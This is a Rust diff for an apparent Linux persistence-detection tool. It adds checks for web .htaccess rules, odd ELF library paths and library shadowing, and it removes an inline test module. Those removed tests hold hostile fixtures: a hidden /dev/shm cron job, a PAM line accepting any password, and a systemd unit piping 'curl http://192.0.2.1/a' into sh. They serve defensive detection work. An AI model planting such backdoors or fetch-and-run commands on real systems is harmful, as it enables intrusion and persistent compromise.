@@ -12,19 +12,23 @@ use stanch_machine::{FileKind, Stat, limits};
 use stanch_words::{Ask, GapKind, Row, Seen, Value};
 
 use crate::config_lines::numbered;
+use crate::content::elf::Program;
 use crate::packages::{self, Index, State};
 use crate::privileged::Privileged;
 use crate::reach::Reach;
 use crate::tables::persistence::{SPEC, col};
+use crate::web_servers::WebServers;
 use crate::{Host, accounts, sshd};
 
 mod commands;
-mod judge;
+pub(crate) mod judge;
 mod mechanisms;
 mod readers;
 mod rights;
 mod specific;
 mod target;
+#[cfg(test)]
+mod tests;
 
 use judge::Judged;
 use specific::Services;
@@ -67,6 +71,8 @@ enum Form {
     Loaders,
     /// dpkg's diversions: those that an administrator made.
     Diversions,
+    /// What the running kernel starts by itself: one line.
+    Helper,
     /// Programs and libraries among those of packages: only those of nobody.
     Nobody,
     /// Files among those of packages: only regular ones of nobody.
@@ -93,6 +99,8 @@ struct Entry {
     reasons: Vec<(&'static str, i64)>,
 }
 
+/// How much of a program of nobody is read to learn where it looks for libraries.
+const PROGRAM: u64 = 16 << 20;
 /// Most rows: a hostile tree may have any number of files in any place.
 const MOST: usize = 200_000;
 
@@ -114,8 +122,13 @@ pub(crate) fn rows(host: &Host, ask: &Ask, seen: &mut Seen) {
         services: services(host, seen),
     };
     let key_files = key_files(host, seen);
+    let rules = web_rules(host);
     for mechanism in mechanisms::ALL.iter().filter(|m| one.is_none_or(|one| one == m.name)) {
-        let more = if mechanism.form == Form::Keys { &*key_files } else { &[] };
+        let more = match mechanism.name {
+            _ if mechanism.form == Form::Keys => &*key_files,
+            "web-directory-rule" | "php-directive" => &*rules,
+            _ => &[],
+        };
         for place in mechanism.places.iter().copied().chain(more.iter().map(String::as_str)) {
             let patterns: Vec<PathBuf> = match place.strip_prefix("~/") {
                 Some(rest) => homes.iter().map(|home| home.join(rest)).collect(),
@@ -162,6 +175,19 @@ fn key_files(host: &Host, seen: &mut Seen) -> Vec<String> {
         }
     }
     patterns
+}
+
+/// Returns patterns of the files with which a directory that is served gives rules of its own.
+fn web_rules(host: &Host) -> Vec<String> {
+    let served = WebServers::of(host);
+    let roots = served.roots().filter(|root| Path::new(root).components().count() > 2);
+    let roots = roots.map(|root| root.trim_end_matches('/'));
+    roots
+        .flat_map(|root| {
+            [".htaccess", "*/.htaccess", ".user.ini", "*/.user.ini"]
+                .map(|name| format!("{root}/{name}"))
+        })
+        .collect()
 }
 
 struct Look<'h> {
@@ -271,7 +297,8 @@ impl Look<'_> {
             self.push(mechanism, &place, &own, (state, &package), &entry, target, judged, seen);
         }
         // A file of nobody counts even if it names nothing that is understood.
-        if mechanism.form != Form::Diversions && (whole || (told == 0 && !trusted)) {
+        let counts = !matches!(mechanism.form, Form::Diversions | Form::Helper);
+        if counts && (whole || (told == 0 && !trusted)) {
             let mut judged = if trusted { Judged::default() } else { judge::file(&bytes) };
             judged.join(&of_whole);
             let target = whole.then(|| target::of_file(self.host, &place)).flatten();
@@ -288,6 +315,14 @@ impl Look<'_> {
         if mechanism.name == "program-among-shipped" && self.keeps_an_original(&path) {
             judged.add("keeps-the-original", 60);
         }
+        if mechanism.form == Form::Nobody && bytes.starts_with(b"\x7fELF") {
+            // Where it looks for libraries stands near its end.
+            let whole = self.host.machine().read(place, PROGRAM).ok();
+            let program = whole.and_then(|whole| Program::parse(&whole.bytes));
+            if program.is_some_and(|program| program.strange_folders().next().is_some()) {
+                judged.add("libraries-in-a-temporary-place", 60);
+            }
+        }
         // FS_IMMUTABLE_FL and FS_APPEND_FL (ioctl_iflags(2)).
         let locked = self.host.machine().flags(place).ok().flatten().unwrap_or_default() & 0x30;
         if locked != 0 {
@@ -302,6 +337,14 @@ impl Look<'_> {
             [".orig", ".real", ".bak", ".old", ".original", "-orig", "-real", ".save"];
         let stem = ASIDE.iter().find_map(|aside| path.strip_suffix(aside));
         stem.is_some_and(|stem| self.index.owner(Path::new(stem)).is_some())
+    }
+
+    /// Returns whether a package has a library of the same name, which is found later.
+    fn shadows(&self, path: &Path) -> bool {
+        let Some(name) = path.file_name() else { return false };
+        ["/usr/lib", "/usr/lib64", "/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu"]
+            .iter()
+            .any(|place| self.index.owner(&Path::new(place).join(name)).is_some())
     }
 
     /// Returns what a timer, a socket or a path starts: the unit beside it that it names, or the
@@ -434,6 +477,9 @@ impl Look<'_> {
             let this = specific::Seen { mechanism, path: &path, state, entry, target_state };
             specific::entry(&this, &self.services, &mut judged);
         }
+        if mechanism.name == "library-shadowing" && self.shadows(path) {
+            judged.add("shadows-a-library", 20);
+        }
         if state == "altered" && mechanism.form != Form::Foreign {
             judged.add("file-altered", 50);
         }
@@ -461,94 +507,4 @@ const LONGEST: usize = 1_000;
 
 fn cut(text: &str) -> &str {
     text.char_indices().nth(LONGEST).and_then(|(end, _)| text.get(..end)).unwrap_or(text)
-}
-
-#[cfg(test)]
-mod tests {
-    use std::sync::Arc;
-
-    use stanch_machine::Pretend;
-
-    use super::*;
-
-    fn look(machine: Pretend) -> Vec<String> {
-        let mut seen = Seen::default();
-        rows(&Host::new(Arc::new(machine)), &Ask::all(), &mut seen);
-        assert_eq!(seen.gaps, []);
-        let cells = [col::mechanism, col::path, col::line, col::target, col::state, col::reasons];
-        seen.rows.iter().map(|row| cells.map(|c| row.get(c).to_string()).join("|")).collect()
-    }
-
-    #[test]
-    fn each_form_ends_in_a_file() {
-        let found = look(
-            Pretend::new()
-                .file("/var/lib/dpkg/status", "")
-                .file("/var/lib/dpkg/info/p.list", "/usr/bin/true\n/usr/bin/sh\n")
-                .file("/usr/bin/true", "")
-                .link("/usr/local/bin/t", "/usr/bin/true")
-                .file(
-                    "/etc/systemd/system/a.service",
-                    "[Service]\nExecStart=-/usr/bin/env A=1 /bin/x\n",
-                )
-                .file("/etc/cron.d/b", "* * * * * root sh -c 'cd / && nohup /dev/shm/.y &'\n")
-                .file(
-                    "/etc/pam.d/c",
-                    "auth sufficient pam_permit.so\nsession optional pam_exec.so seteuid /opt/z\n",
-                )
-                .file(
-                    "/etc/udev/rules.d/d.rules",
-                    "# c\nACTION==\"add\", RUN+=\"/usr/bin/true a\"\n",
-                ),
-        );
-        assert_eq!(
-            found,
-            [
-                "systemd-unit|/etc/systemd/system/a.service|2|/bin/x|unowned|target-missing",
-                "system-crontab|/etc/cron.d/b|1|/dev/shm/.y|unowned|hidden-path target-missing temporary-path",
-                "pam-stack|/etc/pam.d/c|1||unowned|any-password",
-                "pam-stack|/etc/pam.d/c|2|/opt/z|unowned|runs-at-login target-missing",
-                "name-shadowing|/usr/local/bin/t||/usr/bin/true|unowned|",
-                "udev-rule|/etc/udev/rules.d/d.rules|2|/usr/bin/true|unowned|",
-            ]
-        );
-    }
-
-    #[test]
-    fn base64_of_a_certificate_is_no_path_and_a_command_beside_it_is_told() {
-        let body = "/tGCpPYReyL2b2jxLRs/dFSKu7NouCoSyExihjzpA2X7jYIGGmMuFR5ar33Vkc46";
-        let pem = |with: &str| {
-            format!("-----BEGIN CERTIFICATE-----\n{body}\n{with}-----END CERTIFICATE-----\n")
-        };
-        let path = "/usr/local/share/ca-certificates/c.crt";
-        let of = |text: String| look(Pretend::new().file(path, text));
-        assert_eq!(of(pem("")), [format!("certificate-authority|{path}||{path}|unknown|")]);
-        let told = of(pem("/tmp/.x/run it\n"));
-        assert!(told.iter().any(|row| row.contains("|3|/tmp/.x/run|")), "{told:?}");
-    }
-
-    #[test]
-    fn a_shipped_file_tells_only_what_it_starts_and_a_changed_one_why() {
-        let unit = "[Service]\nExecStart=/bin/sh -c 'curl http://192.0.2.1/a | sh'\n";
-        let machine = |sum: &str| {
-            Pretend::new()
-                .file(
-                    "/var/lib/dpkg/status",
-                    "Package: p\nStatus: install ok installed\nVersion: 1\n\n",
-                )
-                .file("/var/lib/dpkg/info/p.list", "/usr/lib/systemd/system/a.service\n")
-                .file(
-                    "/var/lib/dpkg/info/p.md5sums",
-                    format!("{sum}  usr/lib/systemd/system/a.service\n"),
-                )
-                .file("/usr/lib/systemd/system/a.service", unit)
-        };
-        let altered = look(machine("00000000000000000000000000000000"));
-        assert_eq!(
-            altered,
-            [
-                "systemd-unit|/usr/lib/systemd/system/a.service|2||altered|fetch-and-run file-altered"
-            ]
-        );
-    }
 }
